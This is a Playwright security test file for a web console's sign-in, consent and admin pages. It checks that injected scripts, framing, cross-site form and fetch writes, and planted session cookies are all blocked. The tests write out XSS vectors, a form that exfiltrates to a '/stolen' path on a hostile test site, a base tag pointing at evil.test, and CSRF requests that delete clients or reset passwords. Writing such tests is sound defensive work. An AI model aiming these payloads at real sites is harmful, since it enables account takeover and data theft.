import type { Client } from '@behalf/domain';
import { expect, type Page, test } from '@playwright/test';
import { createClient, signIn } from '../support/console.js';
import { type Hostile, hostileSite, openConsent } from '../support/hostile.js';
import { userOf } from '../support/directory.js';
import { ADMIN, DEV, PASSWORD, VIEWER } from '../support/people.js';

let hostile: Hostile;

test.beforeAll(async () => {
  hostile = await hostileSite();
});

test.afterAll(() => void hostile.server.close());

/** What a script on the page could do if a fault let markup in: tried in each of its forms. */
async function injectScripts(page: Page): Promise<{ ran: unknown; refused: string[] }> {
  return page.evaluate(async (foreign) => {
    const refused: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => void refused.push(event.effectiveDirective));
    const inline = document.createElement('script');
    inline.textContent = 'window.ran = "inline"';
    const elsewhere = Object.assign(document.createElement('script'), { src: `${foreign}/x.js` });
    const data = Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.ran="data"' });
    const handler = document.createElement('div');
    handler.innerHTML = '<img src="/nothing" onerror="window.ran=\'handler\'"><base href="https://evil.test/">';
    const link = Object.assign(document.createElement('a'), { href: 'javascript:void(window.ran="link")' });
    document.body.append(inline, elsewhere, data, handler, link);
    link.click();
    await new Promise((resolve) => setTimeout(resolve, 500));
    return { ran: (window as { ran?: unknown }).ran ?? null, refused: [...new Set(refused)].toSorted() };
  }, hostile.site);
}

test('no script runs that is not a file of ours, on the pages before and behind the sign-in (UX-02)', async ({ page }) => {
  await page.goto('/login');
  await expect(page.getByRole('button', { name: 'Sign in' })).toBeVisible();
  const refused = ['base-uri', 'script-src-attr', 'script-src-elem'];
  expect(await injectScripts(page)).toEqual({ ran: null, refused });
  await signIn(page, ADMIN);
  expect(await injectScripts(page)).toEqual({ ran: null, refused });
  await openConsent(page, await createClient(page, { client_name: 'scripted' }));
  expect(await injectScripts(page)).toEqual({ ran: null, refused });
  expect(hostile.visits.filter(({ url }) => url === '/x.js')).toEqual([]);
});

test('a form that was slipped into the console sends nothing elsewhere (UX-03)', async ({ page }) => {
  await signIn(page, ADMIN);
  // Behind the sign-in it is still the document of the sign-in page.
  const refused = await page.evaluate(async (action) => {
    const violation = new Promise<string>((resolve) => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective));
      setTimeout(() => resolve('nothing'), 3_000);
    });
    document.body.insertAdjacentHTML('beforeend', `<form method="post" action="${action}/stolen"><input name="a" value="b"></form>`);
    document.forms[document.forms.length - 1]!.submit();
    return violation;
  }, hostile.site);
  expect(refused).toBe('form-action');
  expect(hostile.visits.filter(({ url }) => url.startsWith('/stolen'))).toEqual([]);
});

for (const where of ['site', 'sibling'] as const) {
  test(`the pages of sign-in, consent and console cannot be framed by another ${where} (UX-01)`, async ({ page, baseURL }) => {
    await signIn(page, ADMIN);
    const consent = await openConsent(page, await createClient(page, { client_name: 'framed' }));
    const refused: string[] = [];
    page.on('console', (message) => /frame/i.test(message.text()) && refused.push(message.text()));
    const addresses = [
      `${baseURL!}/login`,
      consent,
      `${baseURL!}/settings/oauth-clients`,
      `${baseURL!}/oauth2/authorize?client_id=unknown`,
    ];
    const frames = addresses.map((address) => `<iframe src="${address}"></iframe>`).join('');
    hostile.page('/inner', '<h1>Shown</h1>');
    await page.goto(hostile.page('/frames', `${frames}<iframe src="/inner"></iframe>`)[where]);
    // What may be framed is: the page waits for frames at all.
    await expect(page.frameLocator('iframe >> nth=-1').getByRole('heading', { name: 'Shown' })).toBeVisible();
    const ours = page.frames().slice(1, 1 + addresses.length);
    await expect.poll(() => ours.map((frame) => frame.url())).toEqual(addresses.map(() => 'chrome-error://chromewebdata/'));
    await expect.poll(() => refused.filter((text) => text.includes('frame-ancestors')).length).toBe(addresses.length);
  });

  test(`another ${where} writes nothing with the user’s cookies: forms, fetch, sign-in and sign-out (UX-06)`, async ({ page, baseURL }) => {
    await signIn(page, ADMIN);
    const client = await createClient(page, { client_name: 'untouched' });
    const before = await page.context().cookies();
    const viewer = await userOf(page, VIEWER);
    const api = `${baseURL!}/api/v1`;
    const signInBody = { email: DEV, password: PASSWORD };
    const [name, value] = JSON.stringify({ ...signInBody, x: '=' }).split('=') as [string, string];
    const attempts = hostile.page(
      '/writes',
      `<iframe name="sink"></iframe>
       <form target="sink" method="post" enctype="text/plain" action="${api}/session"><input name='${name}' value='${value}'></form>
       <form target="sink" method="post" action="${api}/session"><input name="email" value="${DEV}"></form>
       <form target="sink" method="post" action="${api}/oauth-clients/${client.client_id}/delete"><input name="confirm_name" value="untouched"></form>`,
    );
    await page.goto(attempts[where]);
    await page.evaluate(
      async ({ address, client_id, sign_in, user_id }) => {
        for (const form of document.forms) form.submit();
        const send = (method: string, path: string, body: object | undefined, type: string) =>
          (['no-cors', 'cors'] as const).map((mode) =>
            fetch(address + path, {
              method,
              mode: method === 'POST' ? mode : 'cors',
              credentials: 'include',
              headers: { 'content-type': type },
              body: body ? JSON.stringify(body) : null,
            }).catch(() => null),
          );
        // Needs no body, so no type of one gives it away.
        await fetch(`${address}/users/${user_id}/reset-password`, { method: 'POST', mode: 'no-cors', credentials: 'include' });
        await Promise.all(
          ['text/plain', 'application/json', 'application/x-www-form-urlencoded'].flatMap((type) => [
            ...send('POST', '/session', sign_in, type),
            ...send('DELETE', '/session', undefined, type),
            ...send('POST', `/oauth-clients/${client_id}/delete`, { confirm_name: 'untouched' }, type),
            ...send('PUT', `/oauth-clients/${client_id}/status`, { status: 'disabled' }, type),
          ]),
        );
        await new Promise((resolve) => setTimeout(resolve, 500));
      },
      { address: api, client_id: client.client_id, sign_in: signInBody, user_id: viewer.id },
    );
    expect(await page.context().cookies()).toEqual(before);
    await page.goto('/account');
    await expect(page.getByRole('button', { name: /User menu of/ })).toBeVisible();
    const left = await page.evaluate(
      async (path) => (await (await fetch(path)).json()) as Client,
      `/api/v1/oauth-clients/${client.client_id}`,
    );
    expect([left.client_name, left.status, left.version]).toEqual(['untouched', 'enabled', client.version]);
    expect(await userOf(page, VIEWER)).toEqual(viewer);
  });

  test(`another ${where} that opens the consent page holds no handle on it, nor the page on its opener`, async ({ page, context }) => {
    await signIn(page, ADMIN);
    const address = await openConsent(page, await createClient(page, { client_name: 'opened' }));
    await page.goto(hostile.page('/opener', '<button>Open</button>')[where]);
    await page.evaluate((url) => {
      document.querySelector('button')!.addEventListener('click', () => {
        (window as { held?: unknown }).held = window.open(url);
      });
    }, address);
    const [popup] = await Promise.all([context.waitForEvent('page'), page.getByRole('button').click()]);
    await expect(popup.getByRole('heading', { name: 'opened' })).toBeVisible();
    expect(await popup.evaluate(() => window.opener as unknown)).toBeNull();
    expect(await page.evaluate(() => (window as { held?: Window }).held!.closed)).toBe(true);
  });
}

test('a session that somebody else planted before the sign-in is not the one after it (UX-05)', async ({ browser, baseURL }) => {
  const attacker = await browser.newContext({ baseURL: baseURL! });
  await signIn(await attacker.newPage(), DEV);
  const [planted] = await attacker.cookies();
  const victim = await browser.newContext({ baseURL: baseURL! });
  await victim.addCookies([{ name: planted!.name, value: planted!.value, url: baseURL! }]);
  const page = await victim.newPage();
  await page.goto('/');
  await page.getByRole('button', { name: /User menu of/ }).click();
  await page.getByRole('menuitem', { name: 'Sign out' }).click();
  await expect(page).toHaveURL(/\/login/);
  await signIn(page, ADMIN);
  const own = (await victim.cookies()).filter(({ name }) => name === planted!.name);
  expect(own).toEqual([expect.objectContaining({ httpOnly: true, sameSite: 'Lax', path: '/', domain: 'localhost' })]);
  expect(own[0]!.value).not.toBe(planted!.value);
  expect((await attacker.request.get('/api/v1/session')).status()).toBe(401);
  await attacker.close();
  await victim.close();
});
